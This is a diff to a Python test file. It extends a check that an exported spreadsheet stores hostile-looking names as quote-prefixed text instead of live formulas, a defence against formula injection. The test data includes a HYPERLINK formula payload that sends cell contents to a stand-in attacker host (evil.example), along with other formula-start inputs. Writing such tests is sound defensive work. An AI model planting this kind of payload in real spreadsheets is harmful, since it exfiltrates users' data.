@@ -14,6 +14,7 @@ import shutil
 import zipfile
 from pathlib import Path
 
+import openpyxl
 import polars as pl
 import pytest
 import yaml
@@ -466,6 +467,14 @@ def test_xlsx_holds_no_formulas(hostile_run):
     for xml in sheets:
         assert "<f>" not in xml and "<f " not in xml  # every name is a text cell, never a formula
     assert 'HYPERLINK("https://evil.example/?d="&amp;A1,"click")' in sheets[2]
+    # and each such text keeps its quote prefix, so editing its cell in a spreadsheet does not make it a
+    # formula (the CSV's leading apostrophe); other text has none
+    book = openpyxl.load_workbook(hostile_run / "estimates.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
+    prefixed = {c.value for c in cells if c.quotePrefix}
+    assert {HYPERLINK, PLUS, AT, MINUS, "=1+1", "@me"} <= prefixed
+    assert all(c.value.startswith(FORMULA_STARTS) for c in cells if c.quotePrefix)
+    assert all(c.quotePrefix for c in cells if c.value.startswith(FORMULA_STARTS))
 
 
 def test_markdown_in_names_is_shown_as_text(hostile_run):
